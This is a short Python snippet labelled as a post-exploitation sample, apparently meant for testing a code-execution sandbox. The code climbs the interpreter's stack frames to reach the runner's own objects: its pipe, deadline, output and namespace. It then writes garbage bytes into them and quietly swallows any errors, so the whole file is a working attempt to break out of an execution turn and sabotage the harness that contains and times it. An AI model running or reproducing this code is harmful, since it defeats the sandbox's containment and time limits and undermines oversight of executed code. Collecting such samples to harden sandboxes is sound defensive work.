# kind=cap; source: post-exploitation: out of the turn by its frames, into the runner's own variables
import sys
frame = sys._getframe()
while frame is not None:
    for name, value in list(frame.f_locals.items()):
        for inner in ("_pipe", "_deadline", "_output", "_namespace"):
            if hasattr(value, inner):
                try:
                    getattr(value, inner).send(b"\xff" * 100)
                except Exception:
                    pass
    frame = frame.f_back
